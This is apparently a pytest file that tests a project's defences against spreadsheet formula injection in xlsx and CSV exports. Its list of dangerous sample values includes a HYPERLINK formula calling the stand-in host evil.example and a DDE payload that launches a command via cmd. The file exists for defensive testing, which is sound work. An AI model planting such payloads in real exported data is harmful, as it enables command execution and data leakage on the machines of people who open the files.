"""Formula injection: every export writes text that looks like a formula as a string cell (xlsx)
or behind an apostrophe (CSV)."""

import csv
import io
import re
import zipfile
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from wangge.core.spreadsheets import (
    FORMULA_TRIGGERS,
    csv_safe_cell,
    new_workbook,
    safe_cell,
    write_cells,
)

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x","click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def workbook_of(values) -> bytes:
    buffer = io.BytesIO()
    workbook = new_workbook(buffer, {"in_memory": True})
    sheet = workbook.add_worksheet()
    write_cells(sheet, 0, 0, values)
    # Even xlsxwriter's guessing write_row keeps them text in a workbook from new_workbook.
    sheet.write_row(1, 0, values)
    workbook.close()
    return buffer.getvalue()


def test_formula_like_text_is_a_string_cell_in_xlsx():
    content = workbook_of([*DANGEROUS, "http://example.org", "0012"])
    rows = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()
    for row in rows:
        assert row[: len(DANGEROUS)] == DANGEROUS
        assert row[len(DANGEROUS) :] == ["http://example.org", "0012"]
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    assert "hyperlink" not in sheet_xml.lower()  # and no link made of a URL-looking string


def test_plain_xlsxwriter_would_have_written_a_formula():
    """The control above is needed: xlsxwriter's default turns such text into a formula."""
    import xlsxwriter

    buffer = io.BytesIO()
    workbook = xlsxwriter.Workbook(buffer, {"in_memory": True})
    workbook.add_worksheet().write_row(0, 0, DANGEROUS[:1])
    workbook.close()
    sheet_xml = zipfile.ZipFile(io.BytesIO(buffer.getvalue())).read("xl/worksheets/sheet1.xml")
    assert b"<f>" in sheet_xml


def test_csv_cells_starting_like_a_formula_get_an_apostrophe():
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([csv_safe_cell(value) for value in [*DANGEROUS, "张伟", -5, None]])
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert row[: len(DANGEROUS)] == ["'" + value for value in DANGEROUS]
    assert row[len(DANGEROUS) :] == ["张伟", "-5", ""]  # a number stays a number


@given(st.text(max_size=40))
def test_csv_safe_cell_never_starts_like_a_formula(text):
    cell = csv_safe_cell(text)
    assert isinstance(cell, str) and not cell.startswith(FORMULA_TRIGGERS)
    assert cell in (text, "'" + text)


def test_safe_cell_types():
    assert safe_cell(None) == ""
    assert safe_cell(3) == 3 and safe_cell(2.5) == 2.5 and safe_cell(True) is True
    assert safe_cell(date(2026, 11, 30)) == "2026-11-30"
    assert safe_cell("=1+1") == "=1+1"


def test_every_writer_in_the_project_goes_through_the_helpers():
    """A new export calling xlsxwriter.Workbook directly, or a CSV writer not using
    csv_safe_cell, would bypass the control."""
    root = Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or path.name == "spreadsheets.py":
            continue
        text = path.read_text()
        direct_workbook = re.search(r"xlsxwriter\.Workbook\(", text)
        bare_csv = re.search(r"csv\.(writer|DictWriter)\(", text) and "csv_safe_cell" not in text
        if direct_workbook or bare_csv:
            offenders.append(str(path.relative_to(root)))
    assert offenders == []


@pytest.mark.parametrize("value", DANGEROUS)
def test_each_trigger_is_recognised(value):
    assert csv_safe_cell(value) == "'" + value
